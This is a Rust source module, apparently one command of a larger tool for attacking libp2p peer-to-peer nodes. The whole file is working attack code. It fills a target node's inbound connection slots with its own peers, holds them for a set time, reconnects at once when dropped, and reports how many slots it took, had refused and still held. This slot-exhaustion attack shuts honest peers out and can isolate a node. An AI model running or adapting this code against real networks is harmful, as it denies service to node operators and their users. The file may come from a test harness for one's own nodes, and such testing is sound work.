//! As many inbound places of a node as one host gets, held for as long as the attack lasts, and taken again whenever
//! the node hangs up.

use std::time::{Duration, Instant};

use anyhow::Result;
use libp2p::Multiaddr;
use serde_json::{Value, json};
use tokio::{task::JoinSet, time::sleep};

use crate::{answers, forge::Forge, peer::Peer};

/// Pause before a lost place is tried for again.
const AGAIN: Duration = Duration::from_millis(500);

/// Which node, how many places, for how long.
#[derive(clap::Args)]
pub struct Options {
    /// The node.
    #[arg(long)]
    node: Multiaddr,
    /// Places to take.
    #[arg(long, default_value_t = 8)]
    peers: usize,
    /// How long to hold them.
    #[arg(long, default_value_t = 30)]
    seconds: u64,
}

/// What one peer went through.
#[derive(Default)]
struct Hold {
    taken: u64,
    refused: u64,
    held_at_the_end: u64,
}

/// Runs the attack.
pub async fn run(forge: Forge, options: Options) -> Result<Value> {
    let until = Instant::now() + Duration::from_secs(options.seconds);
    let mut holding = JoinSet::new();
    for _ in 0..options.peers {
        holding.spawn(hold(forge, options.node.clone(), until));
    }
    let mut all = Hold::default();
    for one in holding.join_all().await {
        all.taken += one.taken;
        all.refused += one.refused;
        all.held_at_the_end += one.held_at_the_end;
    }
    Ok(json!({ "taken": all.taken, "refused": all.refused, "held_at_the_end": all.held_at_the_end }))
}

async fn hold(forge: Forge, node: Multiaddr, until: Instant) -> Hold {
    let mut seen = Hold::default();
    while Instant::now() < until {
        let Ok(peer) = Peer::connect(forge.params, &node, answers::nothing(forge)).await else {
            seen.refused += 1;
            sleep(AGAIN).await;
            continue;
        };
        seen.taken += 1;
        while Instant::now() < until && peer.is_connected() {
            sleep(Duration::from_millis(100)).await;
        }
        seen.held_at_the_end = u64::from(peer.is_connected());
    }
    seen
}
